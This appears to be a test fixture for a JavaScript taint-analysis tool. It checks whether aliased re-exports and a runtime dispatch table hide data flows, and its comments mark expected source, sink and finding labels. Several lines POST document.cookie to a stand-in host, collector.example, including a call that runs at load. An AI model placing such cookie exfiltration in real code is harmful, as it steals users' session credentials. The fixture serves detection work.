// A file offers things under names that mean something else inside of it.
// --- path: globals.js ---
const win = typeof window !== 'undefined' ? window : undefined;
const quiet = () => undefined;

export { win as window, quiet as document };
// --- path: again.js ---
export * from './globals';
// --- path: main.js ---
import { window, document } from './globals';
import { window as other } from './again';

export function one() {
  fetch('https://collector.example/1', { method: 'POST', body: window.document.cookie }); //~ source(CREDENTIAL) f1, sink(egress.http) f1, finding(traced) f1
}
export function two() {
  fetch('https://collector.example/2', { method: 'POST', body: document().cookie }); //~ ok
}
export function three() {
  fetch('https://collector.example/3', { method: 'POST', body: other?.document.cookie }); //~ source(CREDENTIAL) f3, sink(egress.http) f3, finding(traced) f3
}
// --- path: table.js ---
// Ways of sending are entries of a table; which one is used is found when the program runs.
import { window } from './globals';

function find(list, test) {
  for (let at = 0; at < list.length; at++) {
    if (test(list[at])) return list[at];
  }
  return undefined;
}

const ways = [];
const post = (request) => { fetch(request.url, { method: 'POST', body: request.data }); }; //~ sink(egress.http) f4, finding(ambiguous) f4
const drop = (request) => { fetch(request.url, { method: 'GET' }); }; //~ ok
ways.push({ name: 'post', method: post });
ways.push({ name: 'drop', method: drop });

export function request(options) {
  const usable = ways.filter((way) => !options.never || !options.never.includes(way.name));
  const method = find(usable, (way) => way.name === options.way)?.method ?? usable[0].method;
  const safe = (given) => {
    try {
      method(given);
    } catch (error) {
      console.error(error);
    }
  };
  safe(options);
}
request({ url: 'https://collector.example/4', data: window.document.cookie }); //~ source(CREDENTIAL) f4
